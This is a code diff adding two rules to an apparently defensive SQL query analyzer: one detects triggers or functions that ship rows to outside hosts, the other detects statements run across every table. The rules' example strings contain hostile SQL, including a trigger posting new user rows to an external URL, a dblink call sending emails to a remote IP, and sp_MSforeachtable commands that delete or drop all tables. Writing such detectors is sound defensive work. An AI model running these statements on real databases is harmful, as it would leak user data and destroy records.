@@ -8,6 +8,7 @@ import { normalizeUnicode, percentDecode } from '../normalize.js';
 import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
 import { K, findAndProbe, parseSql, whereIsConstant, type SqlParse, type Stmt } from '../parse/sql-tokens.js';
 import { embeddedInjection } from '../parse/sql-embedded.js';
+import { everyTable, rowsShippedByTrigger } from '../parse/sql-reach.js';
 import { AGE_COLUMNS, CLEARING_VALUES, isAuditTable, isFlagColumn, isPayColumn } from '../parse/sql-objects.js';
 import { mongoAsSql, SQL_MONGO_PATTERNS } from '../parse/sql-mongo.js';
 import { adminRoleGranted, auditSwitchedOff, destinationRewritten, retentionZeroed, rowsShippedOut, SQL_EFFECT_PATTERNS, whereSelectsWholeTable } from '../parse/sql-effects.js';
@@ -1113,6 +1114,32 @@ const queryAnalyzer: Analyzer<QueryContext> = {
           "CREATE USER 'sync'@'10.0.%' IDENTIFIED BY 'k8Rr2'; GRANT SELECT ON shop.* TO 'sync'@'10.0.%'",
           "CREATE OR REPLACE FUNCTION one() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql IMMUTABLE",
         ],
+      },
+    },
+    {
+      id: 'Q34',
+      name: 'Trigger, rule or function that sends rows to an outside host',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      // the skeleton the keywords are found in shows a function body as a literal: the statement's own words gate it
+      keywords: ['trigger', 'function', 'procedure', 'rule', 'event'],
+      detect: (ctx) => { const r = rowsShippedByTrigger(ctx.source.slice(0, 65536).toLowerCase()); return r !== '' ? `every new row leaves through ${r}` : undefined; },
+      examples: {
+        flag: ["CREATE TRIGGER trg_sync AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION http_post('https://sync-mirror.click/u', row_to_json(NEW)::text);",
+          "CREATE OR REPLACE FUNCTION f() RETURNS trigger AS $$ BEGIN PERFORM dblink_exec('host=203.0.113.50 dbname=x user=u', 'INSERT INTO t VALUES (' || quote_literal(NEW.email) || ')'); RETURN NEW; END $$ LANGUAGE plpgsql;"],
+        pass: ["CREATE TRIGGER trg_audit AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION log_change();", "SELECT http_get('https://api.internal/health')", "CREATE FUNCTION notify() RETURNS trigger AS $$ BEGIN PERFORM pg_notify('orders', NEW.id::text); RETURN NEW; END $$ LANGUAGE plpgsql;"],
+      },
+    },
+    {
+      id: 'Q35',
+      name: 'Statement run against every table or database at once (delete, drop, truncate)',
+      primitive: 'DESTRUCTION',
+      score: 9,
+      keywords: ['sp_msforeach'],
+      detect: (ctx) => { const w = everyTable(ctx.source.slice(0, 65536).toLowerCase()); return w !== '' ? `${w.toUpperCase()} run for every table` : undefined; },
+      examples: {
+        flag: ['EXEC sp_MSforeachtable "DELETE FROM ?";', "EXEC sp_MSforeachtable 'DROP TABLE ?'"],
+        pass: ["EXEC sp_MSforeachtable 'UPDATE STATISTICS ?'", "EXEC sp_MSforeachtable 'SELECT COUNT(*) FROM ?'"],
       },
     },
     {
